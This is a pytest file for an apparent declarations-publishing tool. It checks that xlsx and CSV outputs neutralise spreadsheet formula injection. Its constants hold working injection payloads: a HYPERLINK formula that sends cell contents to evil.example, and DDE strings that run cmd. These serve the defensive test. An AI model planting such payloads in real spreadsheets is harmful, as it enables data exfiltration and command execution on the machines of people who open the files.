"""Formula injection: user text that starts like a formula is written as text everywhere we write cells.

A workbook whose organisation, department, position and names start with `=`, `+`, `-`, `@`, a tab
or a carriage return goes through load → check → publish → report → flags; then no xlsx we wrote
has a formula part (`<f>`) and no CSV cell starts like a formula (the form's empty mark «-» apart).
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest

from declarations.cell_text import is_formula_like, neutralise
from declarations.cli import commands
from declarations.errors import Issue, write_issues_csv
from declarations.store import Store
from tests.conftest import declaration, load, servant, write_csv_workbook

EXFILTRATION = '=HYPERLINK("http://evil.example/?d="&A1&B1,"Подробнее")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = {
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "department": DDE,
    "position": EXFILTRATION,
}


@pytest.mark.parametrize("text, shown", [
    ("=1+1", "'=1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "-"), ("Иванов", "Иванов"), (12, 12), (None, None),
    ("-5", "-5"), ("+1 234,5", "+1 234,5"), ("-1+1", "'-1+1"), ("+7 (900) 1", "'+7 (900) 1"),
])
def test_the_owasp_rule(text, shown):
    assert neutralise(text) == shown


def _workbook(folder: Path) -> Path:
    servants = [
        servant("1", full_name="-Иванов Иван Иванович", **HOSTILE),
        servant("2", full_name=EXFILTRATION, **HOSTILE),  # no справка: a submission flag names him
    ]
    return write_csv_workbook(folder, {
        "servants": servants,
        "declarations": [declaration("d1", "1", 2023)],
        "incomes": [{"declaration_id": "d1", "income_type": "main_job", "amount": "1000000",
                     "description": "=2*3"}],
        "vehicles": [{"declaration_id": "d1", "vehicle_type": "car", "make": "=HYPERLINK(\"x\")", "model": "@A1"}],
    })


def _formula_parts(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as package:
        return [name for name in package.namelist()
                if name.endswith(".xml") and (b"<f>" in package.read(name) or b"<f " in package.read(name))]


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict[str, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    db = tmp / "hostile.duckdb"
    with Store(db) as store:
        load(store, _workbook(tmp / "book"))
    commands.run_checks(db, None, None)
    published = commands.publish_year(db, 2023, tmp / "out", None).paths
    report = commands.write_report(db, 2023, tmp / "report", None).paths
    commands.list_flags(db, None, "xlsx", tmp / "flags.xlsx", False)
    commands.list_flags(db, None, "csv", tmp / "flags.csv", False)
    return {
        "public_xlsx": next(p for p in published if p.name == "declarations_2023.xlsx"),
        "public_csv": next(p for p in published if p.name == "declarations_2023.csv"),
        "report_xlsx": next(p for p in report if p.suffix == ".xlsx"),
        "flags_xlsx": tmp / "flags.xlsx",
        "flags_csv": tmp / "flags.csv",
    }


@pytest.mark.parametrize("name", ["public_xlsx", "report_xlsx", "flags_xlsx"])
def test_workbooks_have_no_formula_parts(outputs, name):
    assert _formula_parts(outputs[name]) == []


@pytest.mark.parametrize("name, shown", [
    ("public_xlsx", "'-Иванов"), ("report_xlsx", "'=HYPERLINK"), ("flags_xlsx", "'=HYPERLINK")])
def test_hostile_text_is_kept_readable_in_workbooks(outputs, name, shown):
    import openpyxl

    workbook = openpyxl.load_workbook(outputs[name])
    values = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [v for v in values if is_formula_like(v)]
    assert any(isinstance(v, str) and v.startswith(shown) for v in values)


@pytest.mark.parametrize("name", ["public_csv", "flags_csv"])
def test_csv_has_no_cell_that_starts_like_a_formula(outputs, name):
    cells = _csv_cells(outputs[name])
    assert cells and not [c for c in cells if is_formula_like(c)]


def test_the_public_csv_keeps_the_text_after_the_quote(outputs):
    cells = _csv_cells(outputs["public_csv"])
    assert "'" + EXFILTRATION in cells and "'" + DDE in cells and "'" + HOSTILE["organisation"] in cells


def test_the_errors_csv_neutralises_values_found_in_the_input(tmp_path):
    path = tmp_path / "errors.csv"
    write_issues_csv([Issue("book.xlsx", "Служащие", 2, "ФИО", "ФИО", "=HYPERLINK(\"x\")")], path)
    assert not [c for c in _csv_cells(path) if is_formula_like(c)]
